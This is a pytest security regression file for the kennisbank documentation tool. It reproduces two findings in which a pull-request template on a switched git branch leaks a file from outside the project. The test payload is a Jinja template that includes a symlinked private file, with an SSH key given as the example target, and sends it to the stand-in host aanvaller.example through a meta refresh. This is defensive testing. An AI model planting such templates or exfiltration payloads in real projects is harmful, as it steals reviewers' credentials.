"""The fifteenth attack (issue 24, December 2026): the fixes of rounds 13 and 14 (the Zensical
preview's private folder and mirror of docs/, the approval of configuration files judged as
links, `kennisbank build` reading only the configuration its check saw) attacked under
`kennisbank serve` with both engines and `kennisbank build`, with real git branches switched
while they run. Each finding is reproduced as a test of what should happen, marked
xfail(strict=True) with the finding's id until it is fixed (then the mark goes and the test
guards the fix); what held and is cheap to keep is a plain guard.

Every case runs the real CLI in a subprocess on a fresh project made by `kennisbank init` in
a temporary folder, with a time limit and the real engine; the pull request is a real git
branch, brought in with git (`checkout`)."""

from __future__ import annotations

import hashlib
import os
import time
import urllib.request
from pathlib import Path

import pytest

from branch_switch import build_switching
from kennisbank.site import thema
from server_support import free_port

# The CLI runner and the freshly initialised project of the fourth round.
from test_attack_round4 import _cli, project  # noqa: F401, F811 (a fixture)
from test_attack_round13 import _concepts, _serve_until
from test_hostile_git import run_git

# Every case starts `kennisbank serve` or a real build and takes over 5 s.
pytestmark = [pytest.mark.server, pytest.mark.slow]

PRIVATE = "GEHEIM-77aa"
# A reviewed template: the theme's own main.html (it keeps the CSP first in <head>).
MAIN = (Path(thema.__file__).parent / "main.html").read_text(encoding="utf-8")
BASE = '{% extends "base.html" %}\n'


def _reviewed_overrides(project: Path, tmp_path: Path) -> None:  # noqa: F811
    """The project on main with a reviewed template (overrides/main.html, recorded), so its
    configuration names overrides/ as the theme's custom_dir."""
    (project / "overrides").mkdir()
    template = project / "overrides" / "main.html"
    template.write_text(MAIN, encoding="utf-8")
    (project / "gekeurde-code.sha256").write_text(
        f"{hashlib.sha256(template.read_bytes()).hexdigest()}  overrides/main.html\n",
        encoding="utf-8")
    assert _cli("check", "--root", str(project), cwd=tmp_path).returncode == 0
    run_git(project, "init", "-q", "-b", "main")
    run_git(project, "add", "-A")
    run_git(project, "commit", "-q", "-m", "begin")


def _fetch(url: str) -> bytes:
    try:
        with urllib.request.urlopen(url, timeout=5) as answer:  # noqa: S310 (our loopback preview)
            return bytes(answer.read())
    except OSError:
        return b""


# -- R15-1 (high): the Zensical preview renders a pull request's template from overrides/,
# which copies a file outside the project into every page and sends it to another host -----
# The Zensical preview's private folder (R13-2, R13-4) keeps docs/ to what the last check
# passed, but its configuration (`Mirror.configure`) points the theme's custom_dir at the
# project's own overrides/ (`custom_dir: ../overrides`, whenever the project's configuration
# sets one, as the default does once overrides/ exists). Zensical reads the templates there
# itself and watches the folder: a template that changes is rendered into every page at
# once. kennisbank does not watch overrides/ (serve.WATCHED), so no check runs, and nothing
# compares a template with gekeurde-code.sha256 as Zensical reads it (R13-3's plugin is
# MkDocs only). Minijinja runs no code (R13), but `{% include %}` reads a file of the theme
# folder, following a symbolic link: one branch switch under `kennisbank serve --engine
# zensical` brings `overrides/sleutel.txt -> ../../.ssh/id_ed25519` and a main.html that
# includes it into a `<meta http-equiv="refresh" content="0;url=https://aanvaller.example/?k=
# {% filter urlencode %}{% include "sleutel.txt" %}{% endfilter %}">` (the template also
# replaces the CSP; a navigation is no request the CSP governs anyway). Live reload opens the
# page again in the reviewer's browser by itself, which goes to the other host with the
# file's text (confirmed in Chromium: `https://aanvaller.example/?k=GEHEIM-77aa`). `check`
# refuses the branch (ongekeurde-code), but it never ran. The test stops at the first half:
# the file's text served on the preview's address.

# Fixed: the Zensical preview's custom_dir is a copy of overrides/ as recorded (site.mirror).
def test_r15_1_a_template_arriving_in_the_zensical_preview_is_not_rendered(
        project: Path, tmp_path: Path) -> None:  # noqa: F811
    secret = tmp_path / "geheim"
    secret.write_text(f"{PRIVATE}\n", encoding="utf-8")
    _reviewed_overrides(project, tmp_path)
    run_git(project, "checkout", "-q", "-b", "pull-request")
    overrides = project / "overrides"
    (overrides / "sleutel.txt").symlink_to(os.path.relpath(secret, overrides))
    (overrides / "main.html").write_text(
        BASE + '{% block extrahead %}<meta http-equiv="refresh" content="0;url=https://'
        'aanvaller.example/?k={% filter urlencode %}{% include "sleutel.txt" %}'
        '{% endfilter %}">{% endblock %}\n', encoding="utf-8")
    run_git(project, "add", "-A")
    run_git(project, "commit", "-q", "-m", "een bijdrage")
    check = _cli("check", "--root", str(project), cwd=tmp_path)
    assert check.returncode == 1 and "ongekeurde-code" in check.stdout, check.stdout
    run_git(project, "checkout", "-q", "main")
    port = free_port()
    leaked = tmp_path / "GELEKT"

    def switch() -> None:
        assert PRIVATE.encode() not in _fetch(f"http://127.0.0.1:{port}/")
        run_git(project, "checkout", "-q", "pull-request")
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            if PRIVATE.encode() in _fetch(f"http://127.0.0.1:{port}/"):
                leaked.touch()
                return
            time.sleep(0.5)

    said = _serve_until(project, tmp_path, "zensical", (b"No issues found",), switch,
                        leaked, 1, port=port)
    assert not leaked.exists(), f"een bestand buiten het project in een pagina:\n{said[-2000:]}"


# -- R15-2 (medium): `kennisbank build --engine zensical` renders a template that arrived
# after its check, and publishes a file outside the project --------------------------------
# R14-2's fix lets the engine read only the configuration its check saw, and R13-3's plugin
# (`site.reviewedcode.Reviewed`) compares every template with the record as MkDocs reads it;
# but under Zensical nothing compares a template of overrides/ as the engine reads it.
# `build` checks (overrides/ included), generates (seconds in a real project), and only then
# does Zensical load its templates from the project's overrides/, following a link in an
# `{% include %}`. A branch switched during the build brings a main.html that includes
# `sleutel.txt -> <a private file>` as text after the page's CSP (so `_verify`, which looks
# at the CSP and scripts, passes it) and the file's text is in every page of the new site/,
# ready to be published, although `check` refuses that branch (ongekeurde-code). Medium,
# like R14-2: the person building must switch branches during the build themselves.

@pytest.mark.parametrize("engine", [
    "mkdocs",  # held: site.reviewedcode.Reviewed compares the template as MkDocs reads it
    "zensical"])  # fixed: Zensical builds with a copy of overrides/ as recorded
def test_r15_2_a_template_arriving_during_a_build_is_not_rendered(
        project: Path, tmp_path: Path, engine: str) -> None:  # noqa: F811
    secret = tmp_path / "geheim"
    secret.write_text(f"{PRIVATE}\n", encoding="utf-8")
    _concepts(project / "begrippen", 800)
    _reviewed_overrides(project, tmp_path)
    run_git(project, "checkout", "-q", "-b", "pull-request")
    overrides = project / "overrides"
    (overrides / "sleutel.txt").symlink_to(os.path.relpath(secret, overrides))
    (overrides / "main.html").write_text(
        MAIN + '{% block content %}<!-- {% include "sleutel.txt" %} -->{{ super() }}'
        '{% endblock %}\n', encoding="utf-8")
    run_git(project, "add", "-A")
    run_git(project, "commit", "-q", "-m", "een bijdrage")
    check = _cli("check", "--root", str(project), cwd=tmp_path)
    assert check.returncode == 1 and "ongekeurde-code" in check.stdout, check.stdout
    run_git(project, "checkout", "-q", "main")
    said = build_switching(project, tmp_path, engine)  # after the check, in the generation
    assert "controle" in said and (overrides / "sleutel.txt").is_symlink(), said
    if engine == "mkdocs":  # refused as read, site/ left as it was
        assert "niets ervan gelezen" in said, said
    published = [path for path in (project / "site").rglob("*.html")
                 if PRIVATE in path.read_text(encoding="utf-8", errors="replace")]
    assert not published, f"een bestand buiten het project in {len(published)} pagina's " \
        f"van de site:\n{said[-2000:]}"
